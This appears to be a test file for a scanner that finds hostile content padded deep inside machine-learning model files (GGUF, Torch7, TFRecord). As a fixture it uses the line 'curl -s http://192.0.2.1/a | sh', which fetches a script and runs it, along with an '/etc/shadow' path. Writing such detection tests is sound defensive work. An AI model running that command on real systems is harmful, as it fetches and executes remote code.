// Padding and then something hostile: where a format stops to look, it says so.

import { assembleTfrecord, assembleTorch7, RecordingContext } from '@sentrascan/testkit';
import { describe, expect, it } from 'vitest';
import { scanBytes } from '../../../testkit/src/scan-bytes.ts';
import { Budget } from '../bytes/budget.ts';
import { findCommand } from '../detectors/metadata/find-command.ts';
import { LIMITS } from '../limits.ts';
import { emitMetadata } from './embedded-content.ts';
import { OperationTally } from './operation-tally.ts';
import { format as tfrecord } from './tfrecord/index.ts';

const COMMAND = 'curl -s http://192.0.2.1/a | sh';

describe('strings of an operation', () => {
  const stated = (count: number) => {
    const strings = Array.from({ length: count }, (_, index) => ({ name: `a${index}`, value: 'x' }));
    strings.push({ name: 'file_path', value: '/etc/shadow' });
    const context = new RecordingContext(new Uint8Array(1));
    const tally = new OperationTally('paddle');
    tally.add({ op: 'load', domain: '', place: () => 'op', strings });
    tally.emit(context);
    return context;
  };

  it('are kept behind many others', () => {
    expect(stated(200).factsOf('graph.op')[0]?.strings.at(-1)?.value).toBe('/etc/shadow');
    expect(stated(200).gaps).toEqual([]);
  });

  it('are a gap beyond', () =>
    expect(stated(LIMITS.operationStrings.value).gaps).toMatchObject([{ kind: 'limit' }]));
});

describe('commands in long texts', () => {
  const emitted = (padding: number) => {
    const context = new RecordingContext(new Uint8Array(1));
    const value = `${'x '.repeat(padding / 2)}\n${COMMAND}`;
    emitMetadata(context, { format: 'gguf', key: 'k', value, place: 'k' });
    return context;
  };

  it.each([100_000, 300_000, 1_000_000])('are found behind %i characters', (padding) => {
    const context = emitted(padding);
    expect(context.gaps).toEqual([]);
    expect(findCommand(context.factsOf('metadata')[0]?.value ?? '')?.what).toBe('a download that is run');
  });

  it('are a gap behind more', () =>
    expect(emitted(LIMITS.metadataCharacters.value).gaps).toMatchObject([{ kind: 'limit' }]));

  it('are found behind a long address', () =>
    expect(findCommand(`curl http://192.0.2.1/${'a'.repeat(1500)} | sh`)?.what).toBe(
      'a download that is run',
    ));

  it('cost no more than the length of what almost matches', () => {
    const started = performance.now();
    for (const piece of ['curl ', 'curl | sha ', '| sh ', '|', 'curl a|python '])
      findCommand(piece.repeat(LIMITS.metadataCharacters.value / piece.length));
    expect(performance.now() - started).toBeLessThan(15_000);
  });
});

describe('texts and functions of Torch7', () => {
  const table = (padding: string, count: number) =>
    scanBytes(
      assembleTorch7(
        {
          table: [
            ...Array.from({ length: count }, (_, index): [string, string] => [`k${index}`, padding]),
            ['hostile', COMMAND],
          ],
        },
        'binary',
      ),
      'model.t7',
    );

  it('are judged behind thousands of others', () =>
    expect(table('padding of sixteen bytes', 5000).findings).not.toEqual([]));

  it('are a gap beyond the limit', () =>
    expect(table('padding of sixteen bytes', LIMITS.carriedTexts.value).gaps).toEqual([
      expect.stringMatching(/^limit: .*100000 texts/),
    ]));
});

it('tells that time was up among the records', () => {
  const context = new RecordingContext(assembleTfrecord('one'), {
    budget: Budget.root({}, { clock: () => 1, deadlineMs: 0 }),
  });
  tfrecord.walk(context);
  expect(context.gaps).toMatchObject([{ kind: 'timeout' }]);
});
